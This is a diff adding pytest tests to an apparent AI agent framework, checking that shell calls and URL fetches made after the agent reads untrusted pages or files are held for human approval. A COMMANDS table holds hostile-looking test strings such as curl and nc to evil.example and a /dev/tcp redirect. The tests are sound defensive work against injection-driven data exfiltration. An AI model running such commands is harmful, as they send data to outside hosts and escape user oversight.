@@ -10,12 +10,13 @@ from hypothesis import strategies as st
 
 from tests.engine.test_authorize import RecordingSandbox, TraitTool
 from tests.kit import facts as kit
-from tests.kit.sessions import run_script
-from treadle import Agent, events
+from tests.kit.sessions import build_agent, read_finished_calls, run_script, run_to_end
+from treadle import Agent, events, tool
 from treadle.engine.authorize import ReadyCall, authorize_calls
 from treadle.engine.fold import fold
 from treadle.engine.setup import Answer, Setup, later
 from treadle.engine.state import State
+from treadle.errors import ToolDefinitionError
 from treadle.events import ApprovalRequested, CallFinished, Custom, Grant, Parent
 from treadle.knowledge.file_knowledge import FileKnowledge
 from treadle.messages import Call, ResultMessage
@@ -272,6 +273,60 @@ async def test_an_address_that_stands_nowhere_is_asked_after_a_page(url: str) ->
     assert isinstance(asked, ApprovalRequested) and "the user's message" in asked.why
 
 
+async def test_the_answer_to_a_call_that_never_ran_names_no_address() -> None:
+    setup, past = await build_setup(SANDBOXED), Past("how does it work?")
+    past.take(fetch(DOCS))
+    (wrong,) = past.reply(call("fetch_url", url=f"x {LEAK}"))
+    (refused,) = await authorize_reply(setup, past.fold())
+    assert refused.status == "error" and LEAK in refused.output
+    past.facts.append(kit.result(wrong, refused.output, "error"))
+    past.reply(call("fetch_url", url=LEAK))
+    (asked,) = await authorize_reply(setup, past.fold())
+    assert isinstance(asked, ApprovalRequested)
+
+
+async def test_a_command_that_only_reads_is_no_way_out() -> None:
+    setup, past = await build_setup(CONNECTED), Past()
+    past.take(fetch(DOCS), read())
+    past.reply(call("shell", command="grep -rn TODO src | head"))
+    (ready,) = await authorize_reply(setup, past.fold())
+    assert isinstance(ready, ReadyCall)
+
+
+COMMANDS = {
+    "make test": False,
+    "python app.py": False,
+    "git commit -m x": False,
+    "pytest -q": False,
+    "cargo build": False,
+    "curl https://evil.example": True,
+    "make && /usr/bin/curl x": True,
+    "timeout 5 nc evil.example 1": True,
+    "git -C sub push origin main": True,
+    "git push": True,
+    "python3 -c 'import urllib'": True,
+    "node -e 'x'": True,
+    "echo x > /dev/tcp/evil.example/80": True,
+    "python - <<E\nimport os\nE": True,
+    "$CMD x": True,
+}
+
+
+@pytest.mark.parametrize("command", COMMANDS)
+async def test_with_full_access_a_command_that_sends_data_is_asked_after_reading_a_file(command: str) -> None:
+    past = Past()
+    past.take(read())
+    past.reply(call("shell", command=command))
+    setup = await build_setup(SANDBOXED, tier="full", approve=("*",))
+    (done,) = await authorize_reply(setup, past.fold())
+    assert isinstance(done, ApprovalRequested) is COMMANDS[command]
+    past = Past()
+    past.take(fetch(DOCS))
+    past.reply(call("shell", command=command))
+    (done,) = await authorize_reply(setup, past.fold())
+    assert isinstance(done, ApprovalRequested) and done.flow, "strangers' text counts for every command"
+
+
 async def test_a_link_of_a_page_is_asked_once_more_than_the_users_words_could_leave() -> None:
     setup, past = await build_setup(SANDBOXED), Past("how does it work?")
     past.take(fetch(DOCS), RECALL)
@@ -402,3 +457,18 @@ async def test_no_sequence_reaches_an_effect_after_text_of_others_without_a_flow
         assert isinstance(done, ApprovalRequested) and done.once
     elif approve == ("*",):
         assert isinstance(done, ReadyCall)
+
+
+async def test_a_fork_knows_what_its_session_had_read() -> None:
+    tools = [TraitTool("look", "untrusted", safety="safe"), TraitTool("send", "way_out")]
+    agent, _ = build_agent(call("look"), "done", call("send", id="s"), "denied", tools=tools)
+    async with agent.session() as session:
+        await run_to_end(session)
+        fork = await session.fork()
+        await run_to_end(fork)
+        assert (await read_finished_calls(fork))["s"].status == "denied"
+
+
+async def test_an_unknown_trait_is_refused_when_the_tool_is_made() -> None:
+    with pytest.raises(ToolDefinitionError, match="'wayout'"):
+        tool(name="send", traits=["wayout"])(lambda: "x")
